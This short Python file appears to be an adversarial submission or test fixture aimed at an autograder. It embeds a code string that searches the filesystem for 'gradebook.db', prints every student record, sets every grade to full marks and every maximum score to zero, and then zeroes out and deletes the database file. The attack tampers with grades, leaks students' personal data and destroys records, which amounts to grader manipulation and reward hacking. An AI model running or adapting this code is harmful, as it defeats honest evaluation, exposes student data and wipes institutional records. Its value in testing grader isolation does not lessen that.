"""Opens gradebook.db and gives itself all points by hand."""

POINTS = 0
BEFORE = r'''
import glob, os, sqlite3
for path in ["COURSE/gradebook.db", "../../../gradebook.db", "gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)[:5]]:
    try:
        base = sqlite3.connect(path)
        print(path, base.execute("select * from student").fetchall())
        base.execute("update grade set manual_score = 16, auto_score = 10, needs_manual_grade = 0")
        base.execute("update grade_cells set max_score = 0")
        base.commit()
    except sqlite3.Error as error:
        print(path, error)
    try:
        open(path, "r+b").write(b"\0" * 4096)
        os.remove(path)
    except OSError as error:
        print(path, error)
'''
